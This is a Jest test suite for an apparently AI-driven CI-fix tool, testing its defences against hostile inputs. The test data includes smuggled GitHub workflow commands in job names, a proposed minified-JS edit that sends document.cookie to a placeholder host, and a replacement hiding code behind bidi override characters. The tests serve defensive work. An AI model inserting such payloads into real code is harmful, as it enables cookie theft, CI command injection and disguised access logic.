// The adversarial review (issue 7), through the bundle: hostile job names, files that run code without being
// source, a one-line change in a minified file, replacements with hidden characters, a bad protected-paths glob,
// and log storage that resets or stalls. Each reaches the runner's stdout, the comment or the outputs unchanged.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { startGitHub, type FakeGitHub } from '../support/github-server.js'
import { toolUseReply } from '../support/bedrock-server.js'
import type { ActionRun } from '../support/action.js'
import {
  SEED_LOG,
  SEED_PROPOSAL,
  analyzeRun,
  expectFailed,
  expectGreen,
  seedFiles,
  startSwitchableBedrock,
  type SwitchableBedrock
} from './analyze-helpers.js'

// What the runner obeys: `::` at the start of a line after white space, `##[` anywhere; LF, CR or CRLF end a line.
const runnerLines = (stdout: string): string[] => stdout.split(/\r\n|\r|\n/)
/** Commands FixFlow itself writes through @actions/core. */
// FixFlow's own commands; its notice has a title property (issue 11).
const OWN = /^::(debug|group|endgroup|add-mask|warning|error|notice)(?: title=FixFlow)?::/

describe('analyze: the adversarial review', () => {
  let gh: FakeGitHub
  let bedrock: SwitchableBedrock
  let base: string
  let n = 0

  beforeAll(async () => {
    ;[gh, bedrock] = await Promise.all([startGitHub(), startSwitchableBedrock()])
    base = gh.push(
      'main',
      {
        ...seedFiles(gh),
        // 10 KB on one line: big enough to score high, small enough for the embedded store's comment (no table).
        'web/app.min.js': `!function(){${'var a=1;'.repeat(1300)}}();\n`,
        'web/index.js': 'export const x = 1\n'
      },
      'initial'
    )
  })

  afterAll(async () => {
    await Promise.all([gh?.close(), bedrock?.close()])
  })

  /** A failed PR run whose jobs are `jobs` and whose model answers `proposal`; the comment body and the run. */
  async function analyze(
    proposal: unknown,
    opts: { jobs?: string[]; inputs?: Record<string, string>; before?: () => void } = {}
  ): Promise<{ r: ActionRun; body: string; id: string }> {
    n++
    const sha = gh.seedCommit({ 'notes.txt': `adversarial ${n}\n` }, base, `adversarial ${n}`)
    const pr = gh.addPull({ head_sha: sha, head_ref: `feature/adv-${n}` })
    const run = gh.addRun({
      head_sha: sha,
      head_branch: `feature/adv-${n}`,
      event: 'pull_request',
      name: 'CI',
      pull_requests: [pr.number]
    })
    for (const name of opts.jobs ?? ['test']) gh.addJob(run.id, { name, failedStep: name, log: SEED_LOG })
    bedrock.handle = () => toolUseReply(proposal)
    opts.before?.()
    const r = await analyzeRun({
      gh,
      run,
      pull: pr,
      bedrock,
      ...(opts.inputs ? { inputs: opts.inputs } : {})
    })
    const comments = gh.commentsOn({ kind: 'pr', number: pr.number })
    return { r, body: comments[0]?.body ?? '', id: `${run.id}-1` }
  }

  it('job names that carry workflow commands never reach the runner as commands', async () => {
    const names = [
      '::set-output name=x::y',
      '::warning::pwned',
      'lint\n::add-mask::abc',
      '##[set-output name=z;]w'
    ]
    const { r } = await analyze(SEED_PROPOSAL, { jobs: names })
    expectGreen(r)
    const lines = runnerLines(r.stdout)
    // The names were logged (the flow reads each job's log by name), but inert: a command the name starts a new
    // line with is split, a legacy one anywhere is broken.
    expect(r.stdout).toContain("reading the log of job 'lint\n: :add-mask::abc'")
    expect(r.stdout).toContain("reading the log of job '# #[set-output name=z;]w'")
    const commands = lines.filter(l => /^\s*::/.test(l))
    expect(commands.filter(l => !OWN.test(l))).toEqual([])
    // The notice names the jobs in its own data: there they must be broken up too, never a command of their own.
    const data = commands.map(l => l.replace(/^\s*::[^:]*::/, ''))
    expect(data.filter(d => /::|##\[/.test(d))).toEqual([])
    expect(
      commands.filter(l => !l.startsWith('::notice ') && /pwned|set-output|::add-mask::abc/.test(l))
    ).toEqual([])
    expect(lines.filter(l => l.includes('##['))).toEqual([])
    expect(r.outputs.x).toBeUndefined()
  })

  it('a dev-container file is protected: high risk, approve only by an admin or maintainer naming the id', async () => {
    const { r, body, id } = await analyze({
      root_cause: 'The container needs pandas.',
      files_to_modify: [
        {
          file_path: '.devcontainer.json',
          original: '',
          replacement: '{ "postCreateCommand": "pip install pandas" }\n'
        }
      ],
      confidence: 0.8
    })
    expectGreen(r)
    expect(r.outputs).toMatchObject({ status: 'pending', risk: 'high' })
    expect(body).toMatch(/\.devcontainer\.json: protected path \(hooks, tasks or dev environment/)
    expect(body).toMatch(/only an admin or maintainer can apply it, by naming the id explicitly/)
    expect(body).toContain(`/fixflow approve ${id}`)
  })

  it('protected-paths globs are picomatch: *.{js,ts} protects a nested file', async () => {
    const { r, body } = await analyze(
      {
        root_cause: 'Pin the requirement.',
        files_to_modify: [{ file_path: 'web/index.js', original: 'x = 1', replacement: 'x = 2' }],
        confidence: 0.8
      },
      { inputs: { 'protected-paths': 'infra/**\n*.{js,ts}' } }
    )
    expectGreen(r)
    expect(r.outputs.risk).toBe('high')
    expect(body).toMatch(/web\/index\.js: protected path \(matches protected-paths "\\?\*\.\{js,ts\}"\)/)
  })

  it('a protected-paths pattern that cannot be parsed fails the job, naming the pattern', async () => {
    const { r } = await analyze(SEED_PROPOSAL, { inputs: { 'protected-paths': 'infra/**\ndeploy/[prod' } })
    const message = expectFailed(r)
    expect(message).toMatch(/protected-paths.*"deploy\/\[prod" cannot be parsed/)
    expect(gh.comments.some(c => c.body.includes(`adversarial ${n}`))).toBe(false)
  })

  it('a one-line change in a 10 KB minified line is high risk, not low', async () => {
    const { r, body } = await analyze({
      root_cause: 'The bundle has a bug.',
      files_to_modify: [
        {
          file_path: 'web/app.min.js',
          original: '!function(){var a=1;',
          replacement: '!function(){fetch("https://x.invalid/"+document.cookie);var a=1;'
        }
      ],
      confidence: 0.9
    })
    expectGreen(r)
    expect(r.outputs.risk).toBe('high')
    expect(body).toMatch(/\d{5} changed characters \(too large to review; high from 20000\)/)
  })

  it('a replacement with bidi override characters is refused with the reason', async () => {
    const { r, body } = await analyze({
      root_cause: 'Access check.',
      files_to_modify: [
        {
          file_path: 'web/index.js',
          original: 'x = 1',
          replacement: 'x = "user\u202e \u2066// admin\u2069\u2066"'
        }
      ],
      confidence: 0.9
    })
    expectGreen(r)
    expect(r.outputs.status).toBe('refused')
    expect(body).toMatch(/the replacement adds a bidirectional control character \(U\+202E\)/)
    expect(body).not.toContain('/fixflow approve')
  })

  it('log storage that resets the connection once: retried, analysed as usual', async () => {
    const { r, body } = await analyze(SEED_PROPOSAL, {
      before: () => gh.failBlob({ kind: 'reset', afterBytes: 200 })
    })
    expectGreen(r)
    expect(r.outputs.status).toBe('pending')
    expect(r.stdout).toMatch(/the connection to log storage failed \(\w+\); retrying/)
    expect(body).toContain('+pandas==2.2.3')
  })

  it('log storage that stalls: after 30 s "log unavailable" in the thread, a green job', async () => {
    const start = Date.now()
    const { r, body } = await analyze(SEED_PROPOSAL, {
      before: () => gh.failBlob({ kind: 'stall', afterBytes: 200 })
    })
    expectGreen(r)
    expect(Date.now() - start).toBeLessThan(60_000)
    expect(body).toMatch(
      /log unavailable: The log of job \d+ is not available: log storage sent nothing for 30 s/
    )
  }, 90_000)
})
